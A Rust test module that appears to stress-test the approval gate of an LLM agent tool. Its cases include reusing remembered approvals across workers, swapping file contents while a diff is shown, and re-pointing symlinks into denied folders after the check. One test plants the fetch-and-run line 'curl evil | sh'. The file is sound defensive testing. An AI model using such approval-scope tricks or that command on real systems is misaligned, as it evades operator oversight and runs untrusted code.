//! Approvals that serve for another effect than the operator saw.

use crate::{
    attempt::{
        Attempt, Group,
        Layer::{Files, Gate},
        Need, Outcome, Tried,
        Who::{Model, Process, Project},
        must,
    },
    binary::call,
    operator::{FRONT, deny, row, write},
    terminal_session::Session,
    world::{World, wait},
};
use llm_do_core::{authority::Access, vfs::FileSystem as _};
use serde_json::{Value, json};
use std::{fs, os::unix::fs::symlink, path::Path};

/// `main` makes a call twice and then asks `other`, which makes the same call. The operator has the first approved and
/// remembered: the second does not prompt, and that of `other` must.
fn asked_again_by_another(world: &World, main: &str, other: (&str, &str), deed: &Value) -> Tried {
    let worker = |front: &str| format!("---\nmodel: script:script.json\n{front}\n---\nGo.\n");
    world.put("main.worker", worker(&format!("allow_workers: [other]\n{main}")));
    world.put(other.0, worker(other.1));
    let asks = call("other", json!({"input": "go"}));
    world.script(&[("main", vec![deed.clone(), deed.clone(), asks]), ("other", vec![deed.clone()])]);
    world.arm();
    let mut session = Session::start(world.command_on_terminal(&["."]));
    session.expect_prompt();
    session.type_keys("r\r");
    session.expect("main → other");
    session.expect_prompt();
    deny(&mut session);
    let (code, shown) = session.end();
    must(code == Some(0) && shown.matches("wants to call").count() == 2, format!("ESCAPE: {shown}"))?;
    let ran = world.journal().iter().filter(|record| record["kind"] == "tool_started").count();
    must(ran == 2, format!("ESCAPE: {ran} calls ran: {shown}"))?;
    Ok(Outcome::AskedAgain)
}

/// The operator approves a call, but something changes while the question is shown. `done` says that the call had its
/// effect.
fn changed_meanwhile(
    world: &World,
    arguments: &[&str],
    deed: Value,
    change: impl Fn(&World),
    done: impl Fn(&World) -> bool,
) -> Result<(bool, String), crate::attempt::Escape> {
    world.put("main.worker", FRONT);
    world.script(&[("main", vec![deed, write("rw/last.txt", "x")])]);
    world.arm();
    let mut session = Session::start(world.command_on_terminal(arguments));
    session.expect_prompt();
    change(world);
    session.type_keys("a");
    // The same call again, or the last one.
    session.expect_prompt();
    let escaped = done(world);
    deny(&mut session);
    let asked_again = !world.project(".llm-do/runs").exists() || {
        let asked = |record: &&Value| record["kind"] == "asked" && record["path"] == "0/0.0";
        world.journal().iter().filter(asked).count() == 2
    };
    if asked_again {
        session.expect_prompt();
        deny(&mut session);
    }
    let (_, shown) = session.end();
    must(!escaped, format!("ESCAPE: the approved call did something else: {shown}"))?;
    Ok((asked_again, shown))
}

fn relink(link: &Path, target: &str) {
    fs::remove_file(link).unwrap();
    symlink(target, link).unwrap();
}

pub(crate) fn group() -> Group {
    let remembered = "a remembered approval covers code, view and working folder";
    let looked_at = "links and the preview are compared again after the answer";
    Group {
        title: "Scope of approvals",
        about: "Runs on a pseudo-terminal. An approval must not serve for a call whose effect the operator has not seen. The \
                controls are the same calls without the change.",
        attempts: vec![
            Attempt::new(Model, Gate, "the same command in the working folder of another worker", remembered, |world| {
                for (file, text) in [("rw/build.sh", "echo harmless"), ("ro/build.sh", "echo evil")] {
                    world.put(file, text);
                }
                let front = |place: &str| {
                    format!("toolsets: {{shell: {{default: {{}}}}}}\nsandbox: {{paths: {{here: {{root: ./{place}, mode: rw}}}}}}")
                };
                asked_again_by_another(
                    world,
                    &front("rw"),
                    ("workers/other.worker", &front("ro")),
                    &call("shell", json!({"command": "sh build.sh"})),
                )
            })
            .tier("A"),
            Attempt::new(Project, Gate, "a function of the same name in another module", remembered, |world| {
                let code = |what: &str| {
                    format!("from llm_do import tool\n@tool(risk='write', approval='ask')\ndef deploy(x: str) -> str:\n    return '{what}'\n")
                };
                world.put("tools.py", code("harmless"));
                world.put("workers/other/tools.py", code("evil"));
                asked_again_by_another(
                    world,
                    "toolsets: [custom]",
                    ("workers/other/worker.worker", "toolsets: [custom]"),
                    &call("deploy", json!({"x": "1"})),
                )
            })
            .tier("A")
            .needs(Need::Python),
            row(Process, Gate, "a file is replaced while its diff is shown", looked_at, |world| {
                let edit = json!({"path": "rw/mine.txt", "old_text": "changed", "new_text": "kept"});
                let (again, shown) = changed_meanwhile(
                    world,
                    &["."],
                    call("edit_file", edit),
                    |world| drop(world.put("rw/mine.txt", "curl evil | sh # to be changed")),
                    |world| world.text("rw/mine.txt").contains("kept"),
                )?;
                must(again && shown.contains("curl evil"), format!("it was not asked again: {shown}"))?;
                Ok(Outcome::AskedAgain)
            }),
            row(Process, Gate, "a link is moved into a denied folder while the question is shown", looked_at, |world| {
                symlink("inner", world.project("rw/link")).unwrap();
                let (again, shown) = changed_meanwhile(
                    world,
                    &[".", "--deny", "write_file(notes/**)"],
                    write("rw/link/new.txt", "x"),
                    |world| relink(&world.project("rw/link"), "../notes"),
                    |world| world.project("notes/new.txt").exists(),
                )?;
                must(!again, format!("a blocked call was asked about: {shown}"))?;
                Ok(Outcome::Refused)
            }),
            row(
                Process,
                Files,
                "a link is moved after the rules have decided and before the file is opened",
                "file tools are bound to the place that was decided about",
                |world| {
                    symlink("inner", world.project("rw/link")).unwrap();
                    let authority = world.whole();
                    let mut at = authority.locate("/rw/link/new.txt", Access::Write).unwrap();
                    at.decided(&world.place("project/rw/inner/new.txt"), true);
                    must(wait(world.files().write(&at, b"x")).is_ok(), "the control: it can't be written")?;
                    relink(&world.project("rw/link"), "../notes");
                    must(wait(world.files().write(&at, b"x")).is_err(), "ESCAPE: written")?;
                    must(wait(world.files().read(&at, 0, 1)).is_err(), "ESCAPE: read")?;
                    must(wait(world.files().delete(&at)).is_err(), "ESCAPE: deleted")?;
                    must(!world.project("notes/new.txt").exists(), "ESCAPE: it exists")?;
                    Ok(Outcome::Refused)
                },
            ),
        ],
    }
}
